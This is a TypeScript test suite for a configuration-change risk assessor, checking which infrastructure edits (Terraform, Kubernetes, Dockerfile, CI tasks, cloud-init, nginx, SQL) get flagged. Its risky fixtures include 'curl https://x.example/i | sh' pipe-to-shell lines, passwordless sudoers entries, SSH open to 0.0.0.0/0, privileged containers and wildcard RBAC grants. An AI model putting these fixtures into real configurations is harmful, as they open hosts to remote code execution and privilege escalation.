import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assess, DEFAULT_SETTINGS } from '../../server/engine/assess.ts';
import { SEVERITIES, type Severity } from '../../server/engine/types.ts';

type Case = {
  readonly path: string;
  readonly before: string;
  /** What each edit leaves, by what it does. */
  readonly seen?: Readonly<Record<string, string>>;
  /** Edits that nobody need look at. */
  readonly calm?: Readonly<Record<string, string>>;
};

const least = SEVERITIES.indexOf('low');
const most = SEVERITIES.indexOf('medium');

const policy = (value: string): string => `resource "aws_iam_policy" "app" {\n  policy = ${value}\n}\n`;
const LITERAL =
  'jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = ["s3:GetObject"], Resource = "arn:aws:s3:::shop/*" }] })';
const SOURCE =
  'data "aws_iam_policy_document" "app" {\n  statement {\n    actions   = ["s3:GetObject"]\n    resources = ["arn:aws:s3:::shop/*"]\n  }\n}\n';
const jsonSource = (action: string): string =>
  JSON.stringify(
    { data: [{ aws_iam_policy_document: [{ app: [{ statement: [{ actions: [action], resources: ['*'] }] }] }] }] },
    undefined,
    2,
  );
const rule = (range: string): string =>
  `resource "aws_security_group_rule" "ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = ${range}\n}\n`;
const template = (address: string): string =>
  JSON.stringify(
    {
      $schema: 'https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#',
      resources: [
        {
          type: 'Microsoft.Network/networkSecurityGroups',
          name: 'n',
          properties: {
            securityRules: [
              {
                name: 'ssh',
                properties: {
                  priority: 100,
                  direction: 'Inbound',
                  access: 'Allow',
                  protocol: 'Tcp',
                  destinationPortRange: '22',
                  sourceAddressPrefix: address,
                },
              },
            ],
          },
        },
      ],
    },
    undefined,
    2,
  );
const storage = (value: string): string =>
  `resource s 'Microsoft.Storage/storageAccounts@2023-01-01' = {\n  name: 's'\n  properties: {\n    allowBlobPublicAccess: ${value}\n  }\n}\n`;
const pod = (more: string, indent: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n${more}  containers:\n    - name: web\n      image: web@sha256:${'a'.repeat(64)}\n`.replace(
    /^(?=.)/gm,
    indent,
  );
const configMap = (more: string): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: files\ndata:\n  pod.yaml: |\n${pod(more, '    ')}`;
const served = (line: string): string =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: files\ndata:\n  nginx.conf: |\n    server {\n      location / {\n        ${line}\n      }\n    }\n`;
const argo = (values: string): string =>
  `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: web\nspec:\n  source:\n    helm:\n${values}`;
const image = (more: string): string => `FROM node:20@sha256:${'b'.repeat(64)}\n${more}USER node\n`;
const task = (line: string): string =>
  `apiVersion: tekton.dev/v1\nkind: Task\nmetadata:\n  name: build\nspec:\n  steps:\n    - name: build\n      image: go@sha256:${'c'.repeat(64)}\n      script: |\n        ${line}\n`;
const steps = (more: string): string =>
  `kind: pipeline\nname: default\nsteps:\n  - name: build\n    image: go@sha256:${'c'.repeat(64)}\n${more}    commands:\n      - make\n`;

const extending = (more: string): string =>
  `services:\n  base:\n    image: a\n    volumes: ["/:/h"]\n  quiet:\n    image: a\n    volumes: ["b:/b"]\n  web:\n    image: b\n    volumes: ["./a:/a"]\n${more}`;

const CASES: Readonly<Record<string, Case>> = {
  'a policy of Terraform': {
    path: 'iam.tf',
    before: policy(LITERAL),
    seen: { 'in another file': policy('file("${path.module}/app.json")'), 'of a template': policy('templatefile("app.tftpl", {})') },
    calm: { 'made by a data source that says the same': policy('data.aws_iam_policy_document.app.json') + SOURCE },
  },
  'a data source in JSON syntax': { path: 'iam.tf.json', before: jsonSource('s3:GetObject'), seen: { wider: jsonSource('iam:*') } },
  'a range in Terraform': {
    path: 'net.tf',
    before: rule('["10.0.0.0/8"]'),
    seen: { 'of the internet': rule('["0.0.0.0/0"]') },
    calm: { 'in a variable': rule('var.office') },
  },
  'nested variables': {
    path: 'prod.tfvars',
    before: 'rules = [{ port = 22, cidr = "10.0.0.0/8" }]\negress = { all = { cidr_blocks = ["10.0.0.0/8"] } }\n',
    seen: { 'a way in': 'rules = [{ port = 22, cidr = "0.0.0.0/0" }]\negress = { all = { cidr_blocks = ["10.0.0.0/8"] } }\n' },
    calm: { 'a way out': 'rules = [{ port = 22, cidr = "10.0.0.0/8" }]\negress = { all = { cidr_blocks = ["0.0.0.0/0"] } }\n' },
  },
  'an address in ARM': {
    path: 'main.json',
    before: template('10.0.0.0/8'),
    seen: { 'put together, open': template("[concat('0.0.0.0', '/0')]"), 'chosen, open': template("[if(true(), '*', '10.0.0.0/8')]") },
    calm: { 'put together, the same': template("[format('{0}/{1}', '10.0.0.0', '8')]") },
  },
  'a choice in Bicep': {
    path: 'main.bicep',
    before: storage('false'),
    seen: { open: storage('true ? true : false'), 'open somewhere': storage("env == 'dev' ? true : false") },
    calm: { closed: storage('true ? false : true'), 'closed either way': storage("env == 'dev' ? false : false") },
  },
  'a JSON patch': {
    path: 'overlays/prod/patch.yaml',
    before: '- op: replace\n  path: /spec/replicas\n  value: 2\n',
    seen: {
      'the host network': '- op: add\n  path: /spec/template/spec/hostNetwork\n  value: true\n',
      'a privileged container': '- op: add\n  path: /spec/template/spec/containers/0/securityContext\n  value: {privileged: true}\n',
      'a role': '- op: replace\n  path: /roleRef/name\n  value: cluster-admin\n',
      'every verb': '- op: replace\n  path: /rules/0/verbs\n  value: ["*"]\n',
      'a guard less': '- op: remove\n  path: /spec/template/spec/securityContext\n',
      'a rule behind an open one':
        '- op: add\n  path: /rules\n  value: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]\n- op: add\n  path: /rules/-\n  value: {apiGroups: [""], resources: [pods], verbs: [get]}\n',
      'the host network ahead of many others':
        '- op: add\n  path: /spec/template/spec/hostNetwork\n  value: true\n' +
        '- op: replace\n  path: /spec/replicas\n  value: 3\n'.repeat(300),
    },
    calm: { 'another number': '- op: replace\n  path: /spec/replicas\n  value: 3\n' },
  },
  'a manifest in a ConfigMap': {
    path: 'k8s/files.yaml',
    before: configMap(''),
    seen: { 'the host network': configMap('  hostNetwork: true\n') },
    calm: { 'a node': configMap('  nodeName: a\n') },
  },
  'a configuration in a ConfigMap': {
    path: 'k8s/files.yaml',
    before: served('root /srv;'),
    seen: { 'a listing': served('autoindex on;') },
    calm: { 'another folder': served('root /srv/www;') },
  },
  'values of a chart in Argo CD': {
    path: 'apps/web.yaml',
    before: argo('      values: |\n        service:\n          type: ClusterIP\n'),
    seen: {
      'as text': argo('      values: |\n        service:\n          type: LoadBalancer\n'),
      'as an object': argo('      valuesObject:\n        securityContext:\n          privileged: true\n'),
      'as a parameter': argo('      parameters:\n        - name: securityContext.privileged\n          value: "true"\n'),
    },
  },
  'a Dockerfile': {
    path: 'Dockerfile',
    before: image(''),
    seen: {
      'what images built on it run': image('ONBUILD RUN curl https://x.example/i | sh\n'),
      'a file it writes': image('COPY <<EOF /etc/sudoers.d/node\nnode ALL=(ALL) NOPASSWD: ALL\nEOF\n'),
    },
    calm: {
      'a file it writes': image('COPY <<EOF /app/a.json\n{"port": 80}\nEOF\n'),
      'what images built on it copy': image('ONBUILD COPY . /app\n'),
    },
  },
  'a task of Tekton': {
    path: 'task.yaml',
    before: task('make'),
    seen: { 'what is fetched': task('curl https://x.example/i | sh'), 'a parameter': task('git clone $(params.url)') },
    calm: { 'another target': task('make test') },
  },
  'a pipeline of Drone': {
    path: '.drone.yml',
    before: steps(''),
    seen: { privileged: steps('    privileged: true\n') },
    calm: { 'a variable': steps('    environment:\n      CGO_ENABLED: "0"\n') },
  },
  'a nested stack': {
    path: 'stack.yaml',
    before:
      'Resources:\n  Net:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n      TemplateURL: https://shop.s3.amazonaws.com/a.yaml\n',
    seen: {
      'of another bucket':
        'Resources:\n  Net:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n      TemplateURL: https://shop-dev.s3.amazonaws.com/a.yaml\n',
    },
    calm: {
      'of the same bucket':
        'Resources:\n  Net:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n      TemplateURL: https://s3.eu-west-1.amazonaws.com/shop/b.yaml\n',
    },
  },
  'a service of Compose that takes over another': {
    path: 'compose.yaml',
    before: extending(''),
    seen: { 'the host': extending('    extends: base\n'), 'the host, by a file': extending('    extends:\n      service: base\n') },
    calm: { 'another host': extending('    extends: quiet\n') },
  },
  'settings with a file in them': {
    path: 'config/app.yaml',
    before: 'debug: false\nhook:\n  path: /etc/app.json\n  content: |\n    {"a": 1}\n    \n',
    seen: {
      'an own setting':
        'debug: true\nverify_ssl: false\nhook:\n  path: /etc/nginx/nginx.conf\n  content: |\n    server {\n      root /srv;\n    }\n',
    },
  },
  'a file that cloud-init writes': {
    path: 'cloud-init.yaml',
    before: '#cloud-config\nwrite_files:\n  - path: /etc/motd\n    content: hello\n',
    seen: {
      'in one line': '#cloud-config\nwrite_files:\n  - path: /etc/sudoers.d/x\n    content: "a ALL=(ALL) NOPASSWD: ALL"\n',
    },
    calm: { 'of no account': '#cloud-config\nwrite_files:\n  - path: /etc/motd\n    content: good day\n' },
  },
  'the order of nginx': {
    path: 'nginx/conf.d/a.conf',
    before: 'server {\n  location /admin {\n    deny all;\n  }\n}\n',
    seen: {
      'a pattern': 'server {\n  location /admin {\n    deny all;\n  }\n  location ~ \\.php$ {\n    fastcgi_pass app;\n  }\n}\n',
      'a longer prefix': 'server {\n  location /admin {\n    deny all;\n  }\n  location /admin/api {\n    proxy_pass http://app;\n  }\n}\n',
    },
    calm: {
      elsewhere: 'server {\n  location /admin {\n    deny all;\n  }\n  location /shop {\n    proxy_pass http://app;\n  }\n}\n',
      'guarded as well':
        'server {\n  location /admin {\n    deny all;\n  }\n  location /admin/api {\n    auth_request /who;\n    proxy_pass http://app;\n  }\n}\n',
    },
  },
  'a function of SQL': {
    path: 'db/1.sql',
    before: 'SELECT 1;\n',
    seen: {
      'that grants': 'SELECT 1;\nCREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN GRANT ALL ON users TO PUBLIC; END $$;\n',
      'that psql asks': "SELECT 1;\nSELECT format('GRANT ALL ON %I TO PUBLIC', name) FROM tables \\gexec\n",
    },
    calm: {
      'that stamps': 'SELECT 1;\nCREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.at = now(); RETURN NEW; END $$;\n',
    },
  },
};

for (const [what, { path, before, seen = {}, calm = {} }] of Object.entries(CASES)) {
  test(what, () => {
    for (const [how, after] of Object.entries(seen)) {
      const worst = worstOf(path, before, after);
      assert.ok(worst !== undefined && SEVERITIES.indexOf(worst) <= least, `${how}: ${worst ?? 'nothing'}`);
    }
    for (const [how, after] of Object.entries(calm)) {
      const worst = worstOf(path, before, after);
      assert.ok(worst === undefined || SEVERITIES.indexOf(worst) > most, `${how}: ${worst ?? ''}`);
    }
  });
}

function worstOf(path: string, before: string, after: string): Severity | undefined {
  const provenance = { channel: 'hook', certainty: 'attested' } as const;
  return assess({ path, before, after, provenance }, DEFAULT_SETTINGS).findings[0]?.severity;
}
